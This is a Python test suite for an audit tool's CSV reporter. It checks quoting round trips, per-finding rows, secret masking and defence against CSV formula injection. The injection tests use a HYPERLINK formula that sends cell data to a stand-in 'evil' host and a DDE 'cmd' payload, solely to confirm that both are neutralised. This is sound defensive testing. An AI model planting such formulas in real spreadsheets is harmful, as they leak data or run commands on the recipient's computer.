"""The CSV report: RFC 4180 round trip, one row per finding, errored rows, formula injection."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest

from tests.report_factory import MASKED, SECRET, sample_result
from wedata_audit.model.results import AuditResult
from wedata_audit.reporters import registry
from wedata_audit.reporters.formats.csv import COLUMNS, FORMULA_TRIGGERS, CsvReporter, render_document, safe_cell

COMPLETE_KINDS = ("failed", "passed", "waived")


def parse(text: str) -> list[dict[str, str]]:
    reader = csv.reader(io.StringIO(text, newline=""), strict=True)
    header = next(reader)
    assert tuple(header) == COLUMNS
    rows = list(reader)
    assert all(len(row) == len(COLUMNS) for row in rows)
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows]


def rows_of(result: AuditResult) -> list[dict[str, str]]:
    return parse(render_document(result))


def with_finding_field(result: AuditResult, **fields: str) -> AuditResult:
    tasks = [replace(t, findings=tuple(replace(f, **fields) for f in t.findings)) for t in result.tasks]
    return replace(result, tasks=tasks)


def with_subject(result: AuditResult, **fields: str) -> AuditResult:
    tasks = []
    for task in result.tasks:
        subject = replace(task.subject, **fields)
        tasks.append(replace(task, subject=subject, findings=tuple(replace(f, subject=subject) for f in task.findings)))
    return replace(result, tasks=tasks)


def test_registered_and_written(tmp_path: Path) -> None:
    assert registry()["csv"] is CsvReporter
    assert CsvReporter.default_filename == "findings.csv"
    path = CsvReporter().write(sample_result(), tmp_path / CsvReporter.default_filename)
    assert path.read_bytes().decode("utf-8") == render_document(sample_result())


def test_header_only_for_an_empty_run() -> None:
    assert render_document(sample_result(0)) == ",".join(COLUMNS) + "\r\n"


def test_one_row_per_finding_plus_one_per_errored_task() -> None:
    result = sample_result(8)
    rows = rows_of(result)
    errored = [t for t in result.tasks if t.error is not None]
    assert len(rows) == len(result.findings()) + len(errored)
    assert [r["fingerprint"] for r in rows if r["status"] != "errored"] == [f.fingerprint for f in result.findings()]


def test_round_trip_of_plain_values() -> None:
    result = sample_result(4, kinds=COMPLETE_KINDS, hostile=False)
    rows = [r for r in rows_of(result) if r["status"] != "errored"]
    for row, f in zip(rows, result.findings(), strict=True):
        s = f.subject
        assert row == {
            "project_id": s.project_id,
            "task_id": s.task_id,
            "task_name": s.task_name,
            "workflow_id": s.workflow_id,
            "version_num": s.version_num,
            "version_id": s.version_id,
            "rule_id": f.rule_id,
            "severity": f.severity.value,
            "status": f.status,
            "title": f.title,
            "message": f.message,
            "key": f.key,
            "actual": f.actual or "",
            "expected": f.expected or "",
            "note": f.note or "",
            "fingerprint": f.fingerprint,
            "source": s.source,
        }
    assert {r["status"] for r in rows} == {"open", "waived", "existing"}


def test_round_trip_keeps_quotes_commas_and_line_breaks() -> None:
    tricky = 'a "quoted", comma\nsecond line\r\nthird line'
    result = with_finding_field(sample_result(1, kinds=("failed",), hostile=False), message=tricky, note=tricky)
    rows = rows_of(result)
    assert {r["message"] for r in rows} == {tricky}
    assert {r["note"] for r in rows} == {tricky}


def test_hostile_text_round_trips_except_unencodable() -> None:
    result = sample_result(4)
    text = render_document(result)
    text.encode("utf-8")
    rows = parse(text)
    name = result.tasks[0].subject.task_name
    expected = name.replace("\x00", "\ufffd").replace("\ud800", "\ufffd")
    assert rows[0]["task_name"] == expected
    assert "\x1b" in rows[0]["task_name"]  # other controls are kept


def test_chinese_names_are_utf8() -> None:
    text = render_document(sample_result(4, hostile=False))
    assert "每日同步任务_3" in text


def test_errored_task_row() -> None:
    result = sample_result(3)
    errored = result.tasks[2]
    (row,) = [r for r in rows_of(result) if r["status"] == "errored"]
    assert row["rule_id"] == ""
    assert row["severity"] == ""
    assert row["fingerprint"] == ""
    assert row["task_id"] == errored.subject.task_id
    assert row["source"] == errored.subject.source
    assert row["message"].startswith("HTTP 500 from DescribeTriggerTaskVersionDetail")


def test_rows_follow_task_order() -> None:
    result = sample_result(8)
    ids = [r["task_id"] for r in rows_of(result)]
    expected = []
    for task in result.tasks:  # passed tasks have no row; an errored task has one
        expected += [task.subject.task_id] * (1 if task.error is not None else len(task.findings))
    assert ids == expected


def test_masked_value_only() -> None:
    text = render_document(sample_result(4))
    assert SECRET not in text
    assert MASKED in text
    assert "not for reports" not in text


# --- formula injection ----------------------------------------------------------------------


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_formula_triggers_are_neutralised(trigger: str) -> None:
    payload = f"{trigger}HYPERLINK(\"http://evil/\"&A1,\"x\")"
    result = sample_result(3, kinds=("failed", "errored"), hostile=False)
    result = with_subject(result, task_name=payload, workflow_id=payload)
    result = with_finding_field(result, message=payload, actual=payload, note=payload, key=payload)
    rows = rows_of(result)
    assert rows
    for row in rows:
        for column in ("task_name", "workflow_id"):
            assert row[column] == "'" + payload
        if row["status"] != "errored":
            for column in ("message", "actual", "note", "key"):
                assert row[column] == "'" + payload


def test_all_owasp_leading_characters_are_covered() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("-1", "'-1"),
        ("+1", "'+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        ("'quoted", "'quoted"),
    ],
)
def test_safe_cell(value: str | None, cell: str) -> None:
    assert safe_cell(value) == cell


def test_every_cell_is_safe_in_a_hostile_run() -> None:
    result = with_finding_field(sample_result(8), message="=cmd|' /C calc'!A0", expected="-2+3")
    for row in rows_of(result):
        for value in row.values():
            assert not value.startswith(FORMULA_TRIGGERS), value
